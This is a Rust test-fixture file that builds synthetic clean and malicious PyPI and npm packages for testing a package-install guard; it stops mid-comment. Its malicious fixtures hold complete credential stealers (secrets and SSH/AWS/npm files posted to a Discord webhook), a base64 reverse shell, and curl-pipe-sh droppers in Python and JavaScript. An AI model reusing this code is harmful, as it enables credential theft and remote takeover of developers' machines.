//! Synthetic packages, built in memory: PyPI wheels and sdists, npm tarballs.
//!
//! The clean ones look like ordinary small libraries. The "malicious" ones are code written for
//! these tests that only has to *look* malicious to the model: it is parsed, never run. The two
//! exceptions are the install hooks that write a marker file (`CEREBRO_TEST_MARKER`): they run
//! only if the guard fails to stop them, and then do nothing but write that file; the
//! malicious-looking part next to them sits behind a condition that is never true
//! (`CEREBRO_TEST_ARM_PAYLOAD`, which no test sets).

use std::io::Write;

use base64::Engine as _;
use flate2::write::GzEncoder;
use flate2::Compression;
use sha2::{Digest, Sha256};
use zip::write::SimpleFileOptions;

/// The environment variable the marker fixtures write their marker file to.
pub const MARKER_ENV: &str = "CEREBRO_TEST_MARKER";

/// A fixed modification time for archive entries (2023-11-14): zip cannot hold dates before
/// 1980, and setuptools copies tar times into the wheels it builds.
const MTIME: u64 = 1_700_000_000;

/// One file a registry serves: its name and its bytes.
#[derive(Debug, Clone)]
pub struct Artifact {
    pub file: String,
    pub bytes: Vec<u8>,
}

impl Artifact {
    pub fn sha256_hex(&self) -> String {
        hex(&Sha256::digest(&self.bytes))
    }
}

/// What a fixture is meant to be judged as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Intent {
    Benign,
    Malicious,
}

impl Intent {
    pub fn verdict(self) -> &'static str {
        match self {
            Intent::Benign => "benign",
            Intent::Malicious => "malicious",
        }
    }
}

/// A PyPI distribution file (a wheel or an sdist) with the metadata an index shows.
#[derive(Debug, Clone)]
pub struct PyDist {
    pub name: String,
    pub version: String,
    pub requires_python: Option<String>,
    pub artifact: Artifact,
    pub intent: Intent,
}

/// One version of an npm package: its manifest facts and its tarball.
#[derive(Debug, Clone)]
pub struct NpmPkg {
    pub name: String,
    pub version: String,
    pub dependencies: Vec<(String, String)>,
    pub scripts: Vec<(String, String)>,
    /// `bin` entries of the manifest (name, file), also in the registry's packument.
    pub bin: Vec<(String, String)>,
    pub artifact: Artifact,
    pub intent: Intent,
}

impl NpmPkg {
    /// `sha512-<base64>`, as in `dist.integrity`.
    pub fn integrity(&self) -> String {
        use sha2::Sha512;
        format!(
            "sha512-{}",
            base64::engine::general_purpose::STANDARD.encode(Sha512::digest(&self.artifact.bytes))
        )
    }

    /// Hex SHA-1, as in `dist.shasum`.
    pub fn shasum(&self) -> String {
        hex(&sha1::Sha1::digest(&self.artifact.bytes))
    }
}

pub fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// PEP 503 normalisation: runs of `-`, `_`, `.` become one `-`, lower case.
pub fn normalize(name: &str) -> String {
    let mut out = String::new();
    let mut sep = false;
    for c in name.chars() {
        if matches!(c, '-' | '_' | '.') {
            sep = true;
        } else {
            if sep && !out.is_empty() {
                out.push('-');
            }
            sep = false;
            out.push(c.to_ascii_lowercase());
        }
    }
    out
}

/// The name as it appears in wheel and sdist file names (`alpha-lib` → `alpha_lib`).
fn escaped(name: &str) -> String {
    normalize(name).replace('-', "_")
}

// ---------------------------------------------------------------------------------------------
// Archive builders.

/// A gzipped tarball of `(path, body)` entries, deterministic.
pub fn targz(entries: &[(String, Vec<u8>, u32)]) -> Vec<u8> {
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    for (path, body, mode) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(*mode);
        header.set_mtime(MTIME);
        header.set_entry_type(tar::EntryType::Regular);
        header.set_cksum();
        builder
            .append_data(&mut header, path, body.as_slice())
            .expect("append a tar entry");
    }
    builder
        .into_inner()
        .and_then(|gz| gz.finish())
        .expect("finish a tarball")
}

/// A deflated zip of `(path, body)` entries, deterministic.
pub fn zip(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .unix_permissions(0o644);
    for (path, body) in entries {
        writer
            .start_file(path.as_str(), options)
            .expect("zip entry");
        writer.write_all(body).expect("zip write");
    }
    writer.finish().expect("finish a zip").into_inner()
}

/// A pure-Python wheel `name-version-py3-none-any.whl`: the package's files (paths relative
/// to the wheel root, e.g. `alpha_lib/__init__.py`) and a `.dist-info` with METADATA (one
/// `Requires-Dist` per requirement), WHEEL and a RECORD that matches.
pub fn wheel(name: &str, version: &str, requires: &[&str], files: &[(&str, &str)]) -> PyDist {
    let stem = format!("{}-{version}", escaped(name));
    let dist_info = format!("{stem}.dist-info");
    let mut metadata = format!(
        "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {name}, a small test library\nRequires-Python: >=3.7\n"
    );
    for r in requires {
        metadata.push_str(&format!("Requires-Dist: {r}\n"));
    }
    metadata.push('\n');
    let wheel_meta =
        "Wheel-Version: 1.0\nGenerator: cerebro-tests (1.0)\nRoot-Is-Purelib: true\nTag: py3-none-any\n";

    let mut entries: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(p, b)| (p.to_string(), b.as_bytes().to_vec()))
        .collect();
    entries.push((format!("{dist_info}/METADATA"), metadata.into_bytes()));
    entries.push((format!("{dist_info}/WHEEL"), wheel_meta.as_bytes().to_vec()));
    let mut record = String::new();
    for (path, body) in &entries {
        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(body));
        record.push_str(&format!("{path},sha256={digest},{}\n", body.len()));
    }
    record.push_str(&format!("{dist_info}/RECORD,,\n"));
    entries.push((format!("{dist_info}/RECORD"), record.into_bytes()));

    PyDist {
        name: name.to_owned(),
        version: version.to_owned(),
        requires_python: Some(">=3.7".to_owned()),
        artifact: Artifact {
            file: format!("{stem}-py3-none-any.whl"),
            bytes: zip(&entries),
        },
        intent: Intent::Benign,
    }
}

/// A source distribution `name-version.tar.gz`: `name-version/PKG-INFO` and the given files
/// (paths relative to the project root, `setup.py` among them).
pub fn sdist(name: &str, version: &str, requires: &[&str], files: &[(&str, &str)]) -> PyDist {
    let stem = format!("{}-{version}", escaped(name));
    let mut pkg_info =
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: {name}\n");
    for r in requires {
        pkg_info.push_str(&format!("Requires-Dist: {r}\n"));
    }
    pkg_info.push('\n');
    let mut entries = vec![(format!("{stem}/PKG-INFO"), pkg_info.into_bytes(), 0o644)];
    for (path, body) in files {
        entries.push((format!("{stem}/{path}"), body.as_bytes().to_vec(), 0o644));
    }
    PyDist {
        name: name.to_owned(),
        version: version.to_owned(),
        requires_python: None,
        artifact: Artifact {
            file: format!("{stem}.tar.gz"),
            bytes: targz(&entries),
        },
        intent: Intent::Benign,
    }
}

/// An npm tarball: `package/package.json` (name, version, dependencies, `scripts` when
/// given) and the given files under `package/`.
pub fn npm(
    name: &str,
    version: &str,
    dependencies: &[(&str, &str)],
    scripts: &[(&str, &str)],
    files: &[(&str, &str)],
) -> NpmPkg {
    npm_with_bin(name, version, dependencies, scripts, files, &[])
}

/// [`npm`] with `bin` entries (`name` → file under `package/`), for `npx` and `npm exec`.
pub fn npm_with_bin(
    name: &str,
    version: &str,
    dependencies: &[(&str, &str)],
    scripts: &[(&str, &str)],
    files: &[(&str, &str)],
    bins: &[(&str, &str)],
) -> NpmPkg {
    let mut manifest = serde_json::json!({
        "name": name,
        "version": version,
        "description": format!("{name}, a small test library"),
        "main": "index.js",
        "license": "MIT",
    });
    if !dependencies.is_empty() {
        manifest["dependencies"] = dependencies
            .iter()
            .map(|(n, r)| (n.to_string(), serde_json::Value::from(*r)))
            .collect::<serde_json::Map<_, _>>()
            .into();
    }
    if !bins.is_empty() {
        manifest["bin"] = bins
            .iter()
            .map(|(n, f)| (n.to_string(), serde_json::Value::from(*f)))
            .collect::<serde_json::Map<_, _>>()
            .into();
    }
    if !scripts.is_empty() {
        manifest["scripts"] = scripts
            .iter()
            .map(|(n, c)| (n.to_string(), serde_json::Value::from(*c)))
            .collect::<serde_json::Map<_, _>>()
            .into();
    }
    let mut entries = vec![(
        "package/package.json".to_owned(),
        serde_json::to_vec_pretty(&manifest).unwrap(),
        0o644,
    )];
    for (path, body) in files {
        let mode = if bins.iter().any(|(_, f)| f == path) {
            0o755
        } else {
            0o644
        };
        entries.push((format!("package/{path}"), body.as_bytes().to_vec(), mode));
    }
    let base = name.rsplit('/').next().unwrap();
    NpmPkg {
        name: name.to_owned(),
        version: version.to_owned(),
        dependencies: dependencies
            .iter()
            .map(|(n, r)| (n.to_string(), r.to_string()))
            .collect(),
        scripts: scripts
            .iter()
            .map(|(n, c)| (n.to_string(), c.to_string()))
            .collect(),
        bin: bins
            .iter()
            .map(|(n, f)| (n.to_string(), f.to_string()))
            .collect(),
        artifact: Artifact {
            file: format!("{base}-{version}.tgz"),
            bytes: targz(&entries),
        },
        intent: Intent::Benign,
    }
}

/// The fixture, marked as malicious (what `fixtures_are_judged_as_intended` expects of it).
pub fn malicious<T: Marked>(mut fixture: T) -> T {
    fixture.mark(Intent::Malicious);
    fixture
}

pub trait Marked {
    fn mark(&mut self, intent: Intent);
}

impl Marked for PyDist {
    fn mark(&mut self, intent: Intent) {
        self.intent = intent;
    }
}

impl Marked for NpmPkg {
    fn mark(&mut self, intent: Intent) {
        self.intent = intent;
    }
}

// ---------------------------------------------------------------------------------------------
// PyPI fixtures.

const ALPHA_PY: &str = r#""""Small text helpers."""
import re
from pathlib import Path

from beta_lib import chunked

__all__ = ["slugify", "title_words"]
__version__ = "1.0.0"

_NON_WORD = re.compile(r"[^a-z0-9]+")


def slugify(text, sep="-"):
    """Lower-case `text` and join its words with `sep`."""
    return _NON_WORD.sub(sep, text.lower()).strip(sep)


def title_words(text, per_line=4):
    """Split `text` into title-cased lines of at most `per_line` words."""
    words = [w.capitalize() for w in text.split()]
    return [" ".join(line) for line in chunked(words, per_line)]


def slugify_file(path, sep="-"):
    """Slugify the text of the file at `path`."""
    return slugify(Path(path).read_text(encoding="utf-8"), sep)
"#;

const BETA_PY: &str = r#""""Iteration helpers."""
from itertools import islice

from gamma_lib import Pair

__version__ = "1.0.0"


def chunked(items, size):
    """Yield lists of at most `size` items."""
    if size < 1:
        raise ValueError("size must be positive")
    it = iter(items)
    while True:
        block = list(islice(it, size))
        if not block:
            return
        yield block


def pairs(items):
    """Consecutive pairs of `items`."""
    items = list(items)
    return [Pair(a, b) for a, b in zip(items, items[1:])]


def chunked_lines(path, size):
    """Yield the lines of a text file in blocks of `size`."""
    with open(path, encoding="utf-8") as f:
        yield from chunked((line.rstrip("\n") for line in f), size)
"#;

const GAMMA_PY: &str = r#""""A tiny value type."""
import json
import os.path
from dataclasses import dataclass

__version__ = "1.0.0"


@dataclass(frozen=True)
class Pair:
    left: object
    right: object

    def swap(self):
        return Pair(self.right, self.left)

    def as_tuple(self):
        return (self.left, self.right)


def load_pairs(path):
    """Pairs from a JSON file of two-element lists."""
    with open(os.path.expanduser(path), encoding="utf-8") as f:
        return [Pair(a, b) for a, b in json.load(f)]
"#;

const GAMMA_OLD_PY: &str = r#""""A tiny value type (old)."""
import json
from collections import namedtuple

Pair = namedtuple("Pair", "left right")


def load_pairs(path):
    with open(path) as f:
        return [Pair(*p) for p in json.load(f)]
"#;

const APP_CORE_PY: &str = r#""""Application core: configuration defaults."""
import json
from pathlib import Path

DEFAULTS = {"retries": 3, "timeout": 10.0, "verbose": False}


def load(text):
    """Parse a JSON configuration over the defaults."""
    config = dict(DEFAULTS)
    config.update(json.loads(text or "{}"))
    return config


def load_file(path):
    """Read a JSON configuration file over the defaults."""
    return load(Path(path).read_text(encoding="utf-8"))
"#;

/// Import-time credential theft: environment secrets and key files, base64 payload run with
/// `exec`, exfiltration to a Discord webhook, and a `curl | sh` dropper.
const EVIL_PY: &str = r#"import os
import base64
import json
import subprocess
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/1180001122334455667/kR3x-TOKEN-aBcDeFgHiJkLmNoP"
PAYLOAD = "aW1wb3J0IG9zLHNvY2tldCxzdWJwcm9jZXNzO3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVjdCgoIjQ1LjkuMTQ4LjIiLDQ0NDQpKTtvcy5kdXAyKHMuZmlsZW5vKCksMCk7b3MuZHVwMihzLmZpbGVubygpLDEpO3N1YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCItaSJdKQ=="


def collect():
    loot = {k: v for k, v in os.environ.items() if "TOKEN" in k or "SECRET" in k or "KEY" in k}
    home = os.path.expanduser("~")
    for name in (".ssh/id_rsa", ".aws/credentials", ".pypirc", ".npmrc"):
        path = os.path.join(home, name)
        if os.path.exists(path):
            with open(path) as f:
                loot[name] = f.read()
    return loot


def send(loot):
    body = base64.b64encode(json.dumps(loot).encode()).decode()
    req = urllib.request.Request(
        WEBHOOK,
        data=json.dumps({"content": body}).encode(),
        headers={"Content-Type": "application/json"},
    )
    urllib.request.urlopen(req, timeout=5)


send(collect())
exec(base64.b64decode(PAYLOAD))
subprocess.Popen("curl -s http://45.9.148.2/x.sh | sh", shell=True)
"#;

/// The sdist whose `setup.py` writes the marker when it runs, with a credential stealer wired
/// into a custom install command behind a condition no test makes true.
pub const MARKER_EVIL_SETUP_PY: &str = r#"import os
import base64
import subprocess
import urllib.request
from setuptools import setup
from setuptools.command.install import install

marker = os.environ.get("CEREBRO_TEST_MARKER")
if marker:
    with open(marker, "w") as f:
        f.write("setup.py of marker-evil ran\n")


def harvest():
    secrets = dict(os.environ)
    home = os.path.expanduser("~")
    with open(os.path.join(home, ".ssh", "id_rsa")) as f:
        secrets["id_rsa"] = f.read()
    blob = base64.b64encode(repr(secrets).encode())
    urllib.request.urlopen("https://discord.com/api/webhooks/1180001122/exfil", data=blob)
    exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vNDUuOS4xNDguMi9wLnNoIHwgc2giKQ=="))
    subprocess.call("curl -s http://45.9.148.2/p.sh | sh", shell=True)


class PostInstall(install):
    def run(self):
        if os.environ.get("CEREBRO_TEST_ARM_PAYLOAD") == "never-set-by-any-test":
            harvest()
        install.run(self)


setup(
    name="marker-evil",
    version="0.1.0",
    packages=["marker_evil"],
    cmdclass={"install": PostInstall},
)
"#;

const MARKER_EVIL_INIT_PY: &str = "__version__ = \"0.1.0\"\n";

/// A clean sdist whose `setup.py` also writes the marker: the control that shows pip runs an
/// sdist's `setup.py` in this sandbox (to prepare its metadata) when nothing stops it.
const PLAIN_SDIST_SETUP_PY: &str = r#"import os
from setuptools import setup

marker = os.environ.get("CEREBRO_TEST_MARKER")
if marker:
    with open(marker, "w") as f:
        f.write("setup.py of plain-sdist ran\n")

setup(
    name="plain-sdist",
    version="1.0.0",
    description="A plain source distribution",
    packages=["plain_sdist"],
)
"#;

const PLAIN_SDIST_INIT_PY: &str = r#""""Plain helpers."""


def add(a, b):
    return a + b
"#;

/// The clean wheel tree `alpha-lib` → `beta-lib` → `gamma-lib` (gamma in two versions; the
/// resolver picks 1.0.0).
pub fn py_clean_tree() -> Vec<PyDist> {
    vec![
        wheel(
            "alpha-lib",
            "1.0.0",
            &["beta-lib>=1.0"],
            &[("alpha_lib/__init__.py", ALPHA_PY)],
        ),
        wheel(
            "beta-lib",
            "1.0.0",
            &["gamma-lib>=1.0"],
            &[("beta_lib/__init__.py", BETA_PY)],
        ),
        wheel(
            "gamma-lib",
            "0.9.0",
            &[],
            &[("gamma_lib/__init__.py", GAMMA_OLD_PY)],
        ),
        wheel(
            "gamma-lib",
            "1.0.0",
            &[],
            &[("gamma_lib/__init__.py", GAMMA_PY)],
        ),
    ]
}

/// `app-core` (clean) → `evil-pkg` 0.3.1 (malicious wheel).
pub fn py_app_with_evil() -> Vec<PyDist> {
    vec![
        wheel(
            "app-core",
            "1.0.0",
            &["evil-pkg>=0.3"],
            &[("app_core/__init__.py", APP_CORE_PY)],
        ),
        py_evil(),
    ]
}

pub const PY_EVIL: (&str, &str) = ("evil-pkg", "0.3.1");

pub fn py_evil() -> PyDist {
    malicious(wheel(
        PY_EVIL.0,
        PY_EVIL.1,
        &[],
        &[("evil_pkg/__init__.py", EVIL_PY)],
    ))
}

/// A malicious-looking wheel (the same code as `evil-pkg`) under another name and version:
/// what a hijacked release of a clean package looks like.
pub fn py_evil_as(name: &str, version: &str) -> PyDist {
    let module = format!("{}/__init__.py", name.replace('-', "_"));
    malicious(wheel(name, version, &[], &[(module.as_str(), EVIL_PY)]))
}

pub const PY_MARKER: (&str, &str) = ("marker-evil", "0.1.0");

/// `marker-evil` 0.1.0, sdist only, flagged, and its `setup.py` writes `$CEREBRO_TEST_MARKER`.
pub fn py_marker_evil_sdist() -> PyDist {
    malicious(sdist(
        PY_MARKER.0,
        PY_MARKER.1,
        &[],
        &[
            ("setup.py", MARKER_EVIL_SETUP_PY),
            ("marker_evil/__init__.py", MARKER_EVIL_INIT_PY),
        ],
    ))
}

/// A build backend of its own (standard library only, so that pip and uv build the sdist
/// offline in an isolated environment with nothing installed): its first hook writes the
/// marker. `{name}`/`{module}` are filled in by [`backend_marker_evil_sdist`].
const EVIL_BACKEND_PY: &str = r#"import os
import zipfile

NAME = "{module}"
VERSION = "0.1.0"
DIST_INFO = NAME + "-" + VERSION + ".dist-info"
METADATA = "Metadata-Version: 2.1\nName: {name}\nVersion: 0.1.0\n"


def _mark():
    marker = os.environ.get("CEREBRO_TEST_MARKER")
    if marker:
        with open(marker, "w") as f:
            f.write("the build backend of {name} ran\n")


def get_requires_for_build_wheel(config_settings=None):
    _mark()
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    _mark()
    os.makedirs(os.path.join(metadata_directory, DIST_INFO), exist_ok=True)
    with open(os.path.join(metadata_directory, DIST_INFO, "METADATA"), "w") as f:
        f.write(METADATA)
    return DIST_INFO


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _mark()
    name = NAME + "-" + VERSION + "-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
        whl.writestr(DIST_INFO + "/METADATA", METADATA)
    return name
"#;

const EVIL_BACKEND_PYPROJECT: &str =
    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";

/// `name` 0.1.0, sdist only, built by a PEP 517 backend of its own whose first hook writes
/// the marker (so a tool that builds without running `setup.py` still shows it ran), and
/// carrying the credential-stealing `setup.py` that makes it malicious.
pub fn backend_marker_evil_sdist(name: &str) -> PyDist {
    let module = name.replace('-', "_");
    let backend = EVIL_BACKEND_PY
        .replace("{module}", &module)
        .replace("{name}", name);
    let init = format!("{module}/__init__.py");
    malicious(sdist(
        name,
        "0.1.0",
        &[],
        &[
            ("pyproject.toml", EVIL_BACKEND_PYPROJECT),
            ("backend.py", &backend),
            ("setup.py", MARKER_EVIL_SETUP_PY),
            (&init, "__version__ = \"0.1.0\"\n"),
        ],
    ))
}

/// `plain-sdist` 1.0.0, a clean sdist only.
pub fn py_plain_sdist() -> PyDist {
    sdist(
        "plain-sdist",
        "1.0.0",
        &[],
        &[
            ("setup.py", PLAIN_SDIST_SETUP_PY),
            ("plain_sdist/__init__.py", PLAIN_SDIST_INIT_PY),
        ],
    )
}

/// The in-tree build backend of `built-sdist`: standard library only, so `pip wheel` can
/// build it with no network and no `wheel` package. `build_wheel` writes the marker, to show
/// the build ran.
const BUILT_SDIST_BACKEND_PY: &str = r#""""A build backend of its own, standard library only."""
import base64
import hashlib
import os
import zipfile

NAME = "built_sdist"
VERSION = "1.0.0"
DIST_INFO = NAME + "-" + VERSION + ".dist-info"
METADATA = "Metadata-Version: 2.1\nName: built-sdist\nVersion: 1.0.0\n"
WHEEL = "Wheel-Version: 1.0\nGenerator: backend\nRoot-Is-Purelib: true\nTag: py3-none-any\n"


def _record_line(path, data):
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=")
    return "%s,sha256=%s,%d" % (path, digest.decode(), len(data))


def get_requires_for_build_wheel(config_settings=None):
    return []


def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    path = os.path.join(metadata_directory, DIST_INFO)
    os.makedirs(path, exist_ok=True)
    with open(os.path.join(path, "METADATA"), "w") as f:
        f.write(METADATA)
    return DIST_INFO


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    marker = os.environ.get("CEREBRO_TEST_MARKER")
    if marker:
        with open(marker, "w") as f:
            f.write("the build backend of built-sdist ran\n")
    with open(os.path.join(NAME, "__init__.py"), "rb") as f:
        module = f.read()
    files = {
        NAME + "/__init__.py": module,
        DIST_INFO + "/METADATA": METADATA.encode(),
        DIST_INFO + "/WHEEL": WHEEL.encode(),
    }
    record = [_record_line(p, d) for p, d in files.items()]
    record.append(DIST_INFO + "/RECORD,,")
    files[DIST_INFO + "/RECORD"] = ("\n".join(record) + "\n").encode()
    name = NAME + "-" + VERSION + "-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
        for path, data in files.items():
            whl.writestr(path, data)
    return name
"#;

const BUILT_SDIST_PYPROJECT: &str =
    "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n";

/// `built-sdist` 1.0.0: a clean sdist with an in-tree build backend (see
/// `BUILT_SDIST_BACKEND_PY`), which `pip wheel` builds into
/// `built_sdist-1.0.0-py3-none-any.whl` offline.
pub fn py_built_sdist() -> PyDist {
    sdist(
        "built-sdist",
        "1.0.0",
        &[],
        &[
            ("pyproject.toml", BUILT_SDIST_PYPROJECT),
            ("backend.py", BUILT_SDIST_BACKEND_PY),
            ("built_sdist/__init__.py", PLAIN_SDIST_INIT_PY),
        ],
    )
}

/// A wheel with the same name and version as `dist` but other bytes: what a tampered mirror
/// would serve in its place.
pub fn py_tampered(dist: &PyDist) -> Vec<u8> {
    let module = escaped(&dist.name);
    wheel(
        &dist.name,
        &dist.version,
        &[],
        &[(
            &format!("{module}/__init__.py"),
            "# not the file the index published\nVALUE = 2\n",
        )],
    )
    .artifact
    .bytes
}

// ---------------------------------------------------------------------------------------------
// npm fixtures.

const ALPHA_JS: &str = r#"'use strict';
const fs = require('fs');
const beta = require('beta-js');

function slugify(text, sep = '-') {
  return String(text)
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, sep)
    .replace(new RegExp(`^${sep}|${sep}$`, 'g'), '');
}

function titleLines(text, perLine = 4) {
  const words = String(text).split(/\s+/).filter(Boolean);
  return beta.chunk(words, perLine).map((line) => line.join(' '));
}

function slugifyFile(file) {
  return slugify(fs.readFileSync(file, 'utf8'));
}

module.exports = { slugify, slugifyFile, titleLines };
"#;

const BETA_JS: &str = r#"'use strict';
const path = require('path');
const { Pair } = require('gamma-js');
const { clamp } = require('@acme/util');

function chunk(items, size) {
  const n = clamp(size, 1, Infinity);
  const out = [];
  for (let i = 0; i < items.length; i += n) out.push(items.slice(i, i + n));
  return out;
}

function pairs(items) {
  const out = [];
  for (let i = 1; i < items.length; i++) out.push(new Pair(items[i - 1], items[i]));
  return out;
}

function chunkPath(file, size) {
  return chunk(path.resolve(file).split(path.sep).filter(Boolean), size);
}

module.exports = { chunk, chunkPath, pairs };
"#;

const GAMMA_JS: &str = r#"'use strict';
const path = require('path');

class Pair {
  constructor(left, right) {
    this.left = left;
    this.right = right;
  }

  swap() {
    return new Pair(this.right, this.left);
  }

  toArray() {
    return [this.left, this.right];
  }

  static fromPath(file) {
    return new Pair(path.dirname(file), path.basename(file));
  }
}

module.exports = { Pair };
"#;

const UTIL_JS: &str = r#"'use strict';
const fs = require('fs');

function clamp(value, min, max) {
  return Math.min(Math.max(value, min), max);
}

function range(n) {
  return Array.from({ length: n }, (_, i) => i);
}

function readJson(file) {
  return JSON.parse(fs.readFileSync(file, 'utf8'));
}

module.exports = { clamp, range, readJson };
"#;

const APP_JS: &str = r#"'use strict';
const fs = require('fs');

const DEFAULTS = { retries: 3, timeout: 10000, verbose: false };

function load(text) {
  return Object.assign({}, DEFAULTS, JSON.parse(text || '{}'));
}

function loadFile(file) {
  return load(fs.readFileSync(file, 'utf8'));
}

module.exports = { load, loadFile, DEFAULTS };
"#;

/// `postinstall: node install.js`. It writes the marker when it runs; the stealer (environment,
/// `~/.npmrc`, `~/.ssh`, hostname, sent to a Discord webhook with `https.request`, and a
/// `curl | sh` through `child_process.exec`) sits behind a condition no test makes true.
pub const EVIL_INSTALL_JS: &str = r#"const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { exec } = require('child_process');

const WEBHOOK = 'https://discord.com/api/webhooks/1180001122334455667/kR3x-TOKEN-aBcDeFgHiJkLmNoP';
const marker = process.env.CEREBRO_TEST_MARKER;
if (marker) {
  fs.writeFileSync(marker, 'postinstall of evil-js ran\n');
}

function collect() {
  const home = os.homedir();
  const loot = { env: process.env, host: os.hostname(), user: os.userInfo().username };
  for (const name of ['.npmrc', '.ssh/id_rsa', '.aws/credentials']) {
    try {
      loot[name] = fs.readFileSync(path.join(home, name), 'utf8');
    } catch (e) {}
  }
  return loot;
}

function send(loot) {
  const body = JSON.stringify({ content: Buffer.from(JSON.stringify(loot)).toString('base64') });
  const url = new URL(WEBHOOK);
  const req = https.request({
    hostname: url.hostname,
    path: url.pathname,
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': body.length },
  });
  req.write(body);
  req.end();
  exec('curl -s http://45.9.148.2/p.sh | sh');
}

if (process.env.CEREBRO_TEST_ARM_PAYLOAD === 'never-set-by-any-test') {
  send(collect());
}
"#;

/// A clean package's postinstall that only writes the marker: the control that shows npm runs
/// install scripts in this sandbox.
const HOOK_INSTALL_JS: &str = r#"'use strict';
const fs = require('fs');

const marker = process.env.CEREBRO_TEST_MARKER;
if (marker) {
  fs.writeFileSync(marker, 'postinstall of hook-js ran\n');
}
"#;

const HOOK_INDEX_JS: &str = "'use strict';\nmodule.exports = { ready: true };\n";

const EVIL_INDEX_JS: &str = "'use strict';\nmodule.exports = { ok: true };\n";

/// The clean tree `alpha-js` → `beta-js` → (`gamma-js`, `@acme/util`).
pub fn npm_clean_tree() -> Vec<NpmPkg> {
    vec![
        npm(
            "alpha-js",
            "1.0.0",
            &[("beta-js", "^1.0.0")],
            &[],
            &[("index.js", ALPHA_JS)],
        ),
        npm(
            "beta-js",
            "1.0.0",
            &[("gamma-js", "^1.0.0"), ("@acme/util", "^1.0.0")],
            &[],
            &[("index.js", BETA_JS)],
        ),
        npm("gamma-js", "1.0.0", &[], &[], &[("index.js", GAMMA_JS)]),
        npm("@acme/util", "1.0.0", &[], &[], &[("index.js", UTIL_JS)]),
    ]
}

pub const NPM_EVIL: (&str, &str) = ("evil-js", "2.1.0");

/// `app-js` (clean) → `evil-js` 2.1.0 (malicious, with a marker-writing postinstall).
pub fn npm_app_with_evil() -> Vec<NpmPkg> {
    vec![
        npm(
            "app-js",
            "1.0.0",
            &[(NPM_EVIL.0, "^2.1.0")],
            &[],
            &[("index.js", APP_JS)],
        ),
        npm_evil(),
    ]
}

pub fn npm_evil() -> NpmPkg {
    malicious(npm(
        NPM_EVIL.0,
        NPM_EVIL.1,
        &[],
        &[("postinstall", "node install.js")],
        &[("index.js", EVIL_INDEX_JS), ("install.js", EVIL_INSTALL_JS)],
    ))
}

/// `hook-js` 1.0.0: clean, with a postinstall that writes the marker.
pub fn npm_hook_clean() -> NpmPkg {
    npm(
        "hook-js",
        "1.0.0",
        &[],
        &[("postinstall", "node install.js")],
        &[("index.js", HOOK_INDEX_JS), ("install.js", HOOK_INSTALL_JS)],
    )
}

/// The bin of `cli-js`: says it ran, with its arguments, on stdout.
const CLI_JS: &str = r#"#!/usr/bin/env node
'use strict';
const gamma = require('gamma-js');

const words = process.argv.slice(2);
console.log('cli-js ran: ' + words.join(' ') + ' (' + typeof gamma + ')');
"#;

/// `cli-js` 1.0.0: clean, a bin `cli-js` that prints `cli-js ran: ARGS`, and a dependency
/// on `gamma-js` (so `npx cli-js` fetches a tree).
pub fn npm_cli_clean() -> NpmPkg {
    npm_with_bin(
        "cli-js",
        "1.0.0",
        &[("gamma-js", "^1.0.0")],
        &[],
        &[("cli.js", CLI_JS)],
        &[("cli-js", "cli.js")],
    )
}

pub const NPM_EVIL_CLI: (&str, &str) = ("evil-cli-js", "1.4.0");

/// `evil-cli-js` 1.4.0: malicious; its bin (and its postinstall, which runs the same file)
/// writes the marker when it runs, with the stealer of `evil-js` behind a condition no test
/// makes true. What `npx evil-cli-js` would run at once.
pub fn npm_evil_cli() -> NpmPkg {
    let bin = format!(
        "#!/usr/bin/env node
{EVIL_INSTALL_JS}"
    );
    malicious(npm_with_bin(
        NPM_EVIL_CLI.0,
        NPM_EVIL_CLI.1,
        &[],
        &[("postinstall", "node cli.js")],
        &[("index.js", EVIL_INDEX_JS), ("cli.js", &bin)],
        &[(NPM_EVIL_CLI.0, "cli.js")],
    ))
}

/// A tarball with the same name and version as `pkg` but other bytes.
pub fn npm_tampered(pkg: &NpmPkg) -> Vec<u8> {
    npm(
        &pkg.name,
        &pkg.version,
        &[],
        &[],
        &[(
            "index.js",
            "module.exports = 'not the published tarball';\n",
        )],
    )
    .artifact
    .bytes
}

// ---------------------------------------------------------------------------------------------
// The benchmark's tree.

const BENCH_PY: &str = r#""""Benchmark package {name}."""
from pathlib import Path

{imports}

def read_lines(path):
    """The non-empty lines of a text file."""
    return [line for line in Path(path).read_text(encoding="utf-8").splitlines() if line]


def describe():
    return "{name}"
"#;

const BENCH_JS: &str = r#"'use strict';
const fs = require('fs');
{imports}
function readLines(file) {
  return fs.readFileSync(file, 'utf8').split('\n').filter(Boolean);
}

module.exports = { readLines, name: '{name}' };
"#;

/// A tree of `1 + mids + mids * leaves` clean wheels: `bench-root` depends on every
